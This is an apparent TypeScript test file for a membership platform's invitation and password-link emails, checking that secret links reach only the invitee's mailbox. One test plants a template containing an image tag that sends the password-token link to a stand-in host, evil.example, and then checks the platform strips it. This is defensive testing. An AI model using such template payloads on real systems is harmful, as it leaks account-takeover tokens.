import t from 'tap'
import { startTestPlatform } from '#core/testing/index.ts'
import { browserOf, choosePassword, sessionOf } from '../../../support/signed-in.ts'
import { PostOffice } from '../../email/post-office.ts'
import { invites, organization } from './inviting.ts'

/** With a server of the operator's, the mailbox decides. */
const office = await PostOffice.open()
// Passwords are hashed slowly, on purpose.
t.setTimeout(120_000)

const platform = await startTestPlatform({ mail: office.settings() })
t.teardown(async () => {
  await platform.close()
  await office[Symbol.asyncDispose]()
})
const [club, choir] = [await organization(platform, 'Club'), await organization(platform, 'Choir')]
const anybody = club.club.client(null)
const word = 'a long and winding password'
const linkIn = (email: string, nth = -1): string =>
  /http\S+\/(?:accept|password#token=[\w-]+)/.exec(office.to(email).at(nth)!.mail.text ?? '')![0]

t.test('links go to the mailbox and to nobody else, and using one proves the address', async (t) => {
  const email = 'ada@mailbox.example'
  const texts = { en: { subject: 'Hi', html: '<img src="https://evil.example/{{ link }}">', text: '{{ link }} evil' } }
  t.equal((await club.admin.put('/api/v1/email-templates/account-link', { texts })).statusCode, 200)
  const made = await club.admin.post(invites, { email })
  t.equal(made.statusCode, 201)
  t.notOk('acceptLink' in made.json())
  await platform.drain()
  const accepted = await anybody.post(new URL(linkIn(email)).pathname, { firstName: 'Ada' })
  t.equal(accepted.statusCode, 201)
  t.notOk('setPasswordLink' in accepted.json())

  const { items } = (await club.admin.get('/api/v1/emails?template=account-link')).json()
  await platform.drain()
  t.equal((await club.admin.get(`/api/v1/emails/${items[0].id}`)).json().content, null)
  const mail = office.received.find(({ to, mail }) => to[0] === email && /password#token/.test(mail.text ?? ''))!.mail
  t.notMatch(`${mail.html}${mail.text}`, /evil/, 'in the words that were shipped')
  const link = /http\S+password#token=[\w-]+/.exec(mail.text ?? '')![0]
  await choosePassword(platform, link, word)

  const session = (await sessionOf(platform, email, word))!
  await choir.admin.post(invites, { email })
  await platform.drain()
  const second = await browserOf(choir.club, session, { named: false }).post(new URL(linkIn(email)).pathname, {})
  t.equal(second.statusCode, 201)
  const userOf = async (by: typeof club.admin, id: string) => (await by.get(`/api/v1/members/${id}`)).json().userId
  t.equal(
    await userOf(choir.admin, second.json().id),
    await userOf(club.admin, accepted.json().id),
    'one account for both',
  )
})

t.test('an own account of the organisation carries its mails, never the proof', async (t) => {
  const email = 'eve@mailbox.example'
  const own = await organization(platform, 'Own')
  await own.admin.post(invites, { email })
  await platform.drain()
  const path = new URL(linkIn(email)).pathname
  const account = { server: '127.0.0.2', port: 2525, fromEmail: 'evil@own.example', username: 'eve', security: 'none' }
  t.equal((await own.admin.put('/api/v1/plugins/email', { config: { account } })).statusCode, 200)
  t.equal((await anybody.post(path, { firstName: 'Eve' })).statusCode, 201)
  await platform.drain()
  const states = (await own.admin.get('/api/v1/emails')).json().items as { template: string; state: string }[]
  t.match(Object.fromEntries(states.map(({ template, state }) => [template, state])), {
    'account-link': 'sent',
    welcome: 'failed',
  })
  t.match(office.to(email).at(-1)!.mail.text, /password#token=/)
})
